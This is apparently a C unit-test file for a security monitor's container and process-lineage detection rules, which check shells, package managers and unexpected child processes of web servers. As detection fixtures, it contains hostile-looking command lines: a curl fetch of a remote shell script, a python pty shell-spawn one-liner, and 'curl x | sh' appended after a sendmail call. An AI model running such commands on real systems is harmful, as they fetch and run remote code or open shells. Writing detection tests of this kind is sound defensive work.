/* The container and lineage judges on snapshots built here:
 * shell-in-container, package-manager-in-container and unexpected-child,
 * each with what it must find, the false positives it must not make, and
 * the facets it asks for (privileged-container and stdio-to-socket are in
 * test_judge_privileged.c). */
#include "unit/containercheck.h"

TestSuite(container, .init = setup, .fini = teardown);

/* ---- the name lists ---- */

Test(container, commlist_patterns)
{
	cr_assert(commlist_match(commlist_shells, "bash"));
	cr_assert(!commlist_match(commlist_shells, "bashful"));
	cr_assert(!commlist_match(commlist_shells, ""));
	cr_assert(!commlist_match(commlist_shells, NULL));
	cr_assert(commlist_match(commlist_runtimes, "runc:[2:INIT]"));
	cr_assert(commlist_match(commlist_runtimes, "containerd-shim"));
	cr_assert(commlist_match(commlist_pkgmgrs, "update-alternat"));
	cr_assert(commlist_match(commlist_pkgmgrs, "pip3.11"));
	cr_assert(!commlist_match(commlist_pkgmgrs, "pipewire"));
	cr_assert(commlist_match(commlist_interpreters, "python3"));
	cr_assert(!commlist_match(commlist_interpreters, "pythonista"));
	cr_assert(commlist_match(commlist_daemons, "php-fpm8.2"));
}

/* ---- shell-in-container ---- */

/* bash (pid 300) with a tty in a container. */
static void ctr_shell(struct psnap *s, const char *comm)
{
	snapkit_init(s, 300, comm);
	snapkit_container(s, NULL);
	snapkit_tty(s, 34816);
}

Test(container, shell_parent_runtime)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_shell(&s, "bash");
	cr_assert_eq(judge_shell_container.more(&s), FACET_BIT(FACET_KIN));
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	f = one(&judge_shell_container, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	cr_assert_str_eq(f->container, SNAPKIT_CID);
	fact_str(f, "tty", "pts/0");
	fact_int(f, "parent_pid", 250);
	fact_str(f, "parent_comm", "containerd-shim");
	fact_str(f, "why", "parent is the runtime");
	cr_assert(has_tag(f, "T1059.004"));
	findings_release(&l);
	psnap_release(&s);
}

/* runc's own names, whatever the parent's cgroup. */
Test(container, shell_parent_runc_init)
{
	struct psnap s;
	struct findings l = {0};
	ctr_shell(&s, "sh");
	snapkit_kin(&s, 0, 251, "runc:[2:INIT]", SNAPKIT_CID);
	fact_str(one(&judge_shell_container, &s, &l), "why",
		 "parent is the runtime");
	findings_release(&l);
	psnap_release(&s);
}

/* kubectl exec through a runtime with another name: the parent is a
 * host process. */
Test(container, shell_parent_outside)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_shell(&s, "zsh");
	snapkit_kin(&s, 0, 252, "myruntime", "");
	f = one(&judge_shell_container, &s, &l);
	fact_str(f, "why", "parent is outside the container");
	fact_str(f, "parent_container", "");
	findings_release(&l);
	psnap_release(&s);
}

Test(container, shell_parent_init)
{
	struct psnap s;
	struct findings l = {0};
	ctr_shell(&s, "bash");
	snapkit_kin(&s, 0, 253, "tini", SNAPKIT_CID);
	fact_str(one(&judge_shell_container, &s, &l), "why",
		 "parent is the container's init");
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: bash in a container without a tty (an entrypoint script). */
Test(container, shell_trap_no_tty)
{
	struct psnap s;
	ctr_shell(&s, "bash");
	snapkit_tty(&s, 0);
	cr_assert_eq(judge_shell_container.more(&s), 0);
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* Trap: a shell started by another shell of the same container. */
Test(container, shell_trap_shell_parent)
{
	struct psnap s;
	ctr_shell(&s, "sh");
	snapkit_kin(&s, 0, 299, "bash", SNAPKIT_CID);
	snapkit_kin(&s, 1, 250, "containerd-shim", "");
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* Trap: a host shell with a tty; a container process not a shell. */
Test(container, shell_trap_host_and_not_shell)
{
	struct psnap s;
	snapkit_init(&s, 300, "bash");
	snapkit_tty(&s, 34816);
	snapkit_kin(&s, 0, 250, "sshd", "");
	cr_assert_eq(judge_shell_container.more(&s), 0);
	none(&judge_shell_container, &s);
	psnap_release(&s);
	ctr_shell(&s, "vim");
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	cr_assert_eq(judge_shell_container.more(&s), 0);
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* Without the parent there is nothing to judge: no guess. */
Test(container, shell_no_kin)
{
	struct psnap s;
	ctr_shell(&s, "bash");
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* The chain read but no parent in it (gone, or its pid reused): no
 * guess, and, as for any process that vanished, no error (the facet
 * was read: the process is judged whole). */
Test(container, shell_parent_gone)
{
	struct psnap s;
	struct findings l = {0};
	ctr_shell(&s, "bash");
	s.proc.ppid = 250;
	s.loaded |= FACET_BIT(FACET_KIN);
	cr_assert_eq(snapkit_run(&judge_shell_container, &jc, &s, &l), 0);
	cr_assert_eq(l.n, 0);
	psnap_release(&s);
}

/* ---- package-manager-in-container ---- */

Test(container, pkgmgr_found)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	snapkit_init(&s, 400, "apt-get");
	snapkit_container(&s, NULL);
	cr_assert_eq(judge_pkgmgr.more(&s), FACET_BIT(FACET_KIN));
	snapkit_kin(&s, 0, 399, "bash", SNAPKIT_CID);
	snapkit_kin(&s, 1, 250, "containerd-shim", "");
	snapkit_kin(&s, 2, 1, "systemd", NULL);
	f = one(&judge_pkgmgr, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	fact_int(f, "ancestors_checked", 3);
	fact_int(f, "parent_pid", 399);
	fact_str(f, "parent_comm", "bash");
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: dpkg run by apt (parent), or by apt through a shell (an
 * ancestor within Falco's four). */
Test(container, pkgmgr_trap_apt_runs_dpkg)
{
	struct psnap s;
	snapkit_init(&s, 401, "dpkg");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 400, "apt-get", SNAPKIT_CID);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
	snapkit_init(&s, 402, "dpkg");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 401, "sh", SNAPKIT_CID);
	snapkit_kin(&s, 1, 400, "sh", NULL);
	snapkit_kin(&s, 2, 399, "apt", NULL);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
}

/* A package manager five generations up is past Falco's ancestors. */
Test(container, pkgmgr_far_ancestor_not_checked)
{
	struct psnap s;
	struct findings l = {0};
	size_t k;
	snapkit_init(&s, 410, "pip3.11");
	snapkit_container(&s, NULL);
	for (k = 0; k < 4; k++)
		snapkit_kin(&s, k, (pid_t)(409 - k), "sh",
			    k ? NULL : SNAPKIT_CID);
	snapkit_kin(&s, 4, 405, "apt", NULL);
	fact_int(one(&judge_pkgmgr, &s, &l), "ancestors_checked", 4);
	findings_release(&l);
	psnap_release(&s);
}

/* The parent gone or its pid reused between the reads: reported at low
 * confidence, said in the message and the facts. */
Test(container, pkgmgr_parent_gone)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	snapkit_init(&s, 440, "apt-get");
	snapkit_container(&s, NULL);
	s.proc.ppid = 439;
	s.loaded |= FACET_BIT(FACET_KIN);
	f = one(&judge_pkgmgr, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	cr_assert_eq(f->confidence, CONF_LOW);
	fact_int(f, "ancestors_checked", 0);
	fact_int(f, "ancestors_unknown", 1);
	fact_int(f, "parent_pid", 439);
	cr_assert(strstr(f->message, "gone"), "%s", f->message);
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: apt on the host; a name that only starts like one. */
Test(container, pkgmgr_trap_host_and_names)
{
	struct psnap s;
	snapkit_init(&s, 420, "apt");
	snapkit_kin(&s, 0, 1, "systemd", "");
	cr_assert_eq(judge_pkgmgr.more(&s), 0);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
	snapkit_init(&s, 421, "pipewire");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 1, "containerd-shim", "");
	cr_assert_eq(judge_pkgmgr.more(&s), 0);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
}

Test(container, pkgmgr_cut_comm)
{
	struct psnap s;
	struct findings l = {0};
	snapkit_init(&s, 430, "update-alternat");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	one(&judge_pkgmgr, &s, &l);
	findings_release(&l);
	psnap_release(&s);
}

/* ---- unexpected-child ---- */

static void child(struct psnap *s, pid_t pid, const char *comm,
		  const char *parent, const char *const *argv)
{
	snapkit_init(s, pid, comm);
	snapkit_argv(s, argv);
	snapkit_kin(s, 0, 500, parent, "");
}

Test(container, child_shell_under_nginx)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const argv[] = {"/bin/sh", "-c", "id; uname -a",
					   NULL};
	child(&s, 501, "sh", "nginx", argv);
	cr_assert_eq(judge_unexpected_child.more(&s),
		     FACET_BIT(FACET_KIN) | FACET_BIT(FACET_ARGV));
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_str_eq(f->rule, "unexpected-child");
	fact_int(f, "parent_pid", 500);
	fact_str(f, "parent_comm", "nginx");
	fact_str(f, "child_comm", "sh");
	fact_str(f, "command", "/bin/sh -c id; uname -a");
	cr_assert(has_tag(f, "T1505.003"));
	cr_assert(has_tag(f, "T1059.004"));
	findings_release(&l);
	psnap_release(&s);
}

Test(container, child_tool_under_php_fpm)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const argv[] = {"curl", "-s",
					   "http://203.0.113.9/x.sh", NULL};
	child(&s, 502, "curl", "php-fpm8.2", argv);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert(has_tag(f, "T1059"));
	findings_release(&l);
	psnap_release(&s);
}

/* A secret on the child's command line is redacted in the fact. */
Test(container, child_command_redacted)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding_fact *x;
	static const char *const argv[] = {"curl", "-u", "admin:Cur1UsrPw3344",
					   "https://example.com/", NULL};
	child(&s, 503, "curl", "java", argv);
	x = snapkit_fact(one(&judge_unexpected_child, &s, &l), "command");
	cr_assert(x);
	cr_assert(!strstr(x->str, "Cur1UsrPw3344"), "%s", x->str);
	cr_assert(strstr(x->str, "https://example.com/"), "%s", x->str);
	findings_release(&l);
	psnap_release(&s);
}

/* Interpreters count with code on their command line alone. */
Test(container, child_interpreter_one_liner)
{
	struct psnap s;
	struct findings l = {0};
	static const char *const code[] = {
		"python3", "-uc", "import pty;pty.spawn('/bin/sh')", NULL};
	static const char *const script[] = {"python3", "/app/job.py", "-c",
					     "x", NULL};
	static const char *const perl_inc[] = {"perl", "-I/e/lib", "run.pl",
					       NULL};
	static const char *const perl_ne[] = {"perl", "-ne", "print", NULL};
	child(&s, 504, "python3", "java", code);
	one(&judge_unexpected_child, &s, &l);
	findings_release(&l);
	psnap_release(&s);
	child(&s, 505, "python3", "java", script);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	child(&s, 506, "perl", "httpd", perl_inc);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 507, "perl", "httpd", perl_ne);
	one(&judge_unexpected_child, &s, &l);
	findings_release(&l);
	psnap_release(&s);
}

/* Traps: postgres forking postgres; bash under sshd; a shell under a
 * shell. */
Test(container, child_traps)
{
	struct psnap s;
	static const char *const pg[] = {"postgres: checkpointer", NULL};
	static const char *const bash[] = {"-bash", NULL};
	child(&s, 510, "postgres", "postgres", pg);
	cr_assert_eq(judge_unexpected_child.more(&s), 0);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	child(&s, 511, "bash", "sshd", bash);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	child(&s, 512, "bash", "bash", bash);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
}

/* VS Code Remote's terminals are bash on a pty under node (ptyHost),
 * JetBrains' under java: low, with the reason; the same shell without a
 * terminal, or with one under another daemon, stays high. */
Test(container, child_ide_terminal)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const bash[] = {"/bin/bash", "--init-file",
					   "/home/u/.vscode-server/x.sh", NULL};
	static const char *const sh_c[] = {"/bin/sh", "-c", "id", NULL};
	static const char *const parents[] = {"node", "java", "nodejs"};
	size_t i;
	for (i = 0; i < 3; i++) {
		child(&s, 530, "bash", parents[i], bash);
		snapkit_tty(&s, 34817);
		f = one(&judge_unexpected_child, &s, &l);
		cr_assert_eq(f->severity, SEV_LOW, "%s", parents[i]);
		cr_assert_eq(f->confidence, CONF_LOW);
		cr_assert_str_eq(f->rule, "unexpected-child-terminal");
		fact_str(f, "parent_comm", parents[i]);
		fact_int(f, "tty_nr", 34817);
		cr_assert(strstr(snapkit_fact(f, "reason")->str, "IDE"));
		findings_release(&l);
		psnap_release(&s);
		memset(&l, 0, sizeof(l));
	}
	child(&s, 531, "sh", "node", sh_c); /* no terminal: a webshell's */
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_str_eq(f->rule, "unexpected-child");
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 532, "bash", "nginx", bash); /* a pty under nginx */
	snapkit_tty(&s, 34817);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 533, "curl", "node", bash); /* a tool, not a shell */
	snapkit_tty(&s, 34817);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
}

/* php's mail(): low, unless the command does more than sendmail. */
Test(container, child_php_sendmail)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const mail[] = {"sh", "-c",
					   "/usr/sbin/sendmail -t -i ", NULL};
	static const char *const more_than[] = {
		"sh", "-c", "/usr/sbin/sendmail -t; curl x | sh", NULL};
	child(&s, 520, "sh", "php-fpm8.2", mail);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_LOW);
	cr_assert_str_eq(f->rule, "unexpected-child-sendmail");
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 521, "sh", "php-fpm8.2", more_than);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
}

/* ---- privileged-container ---- */
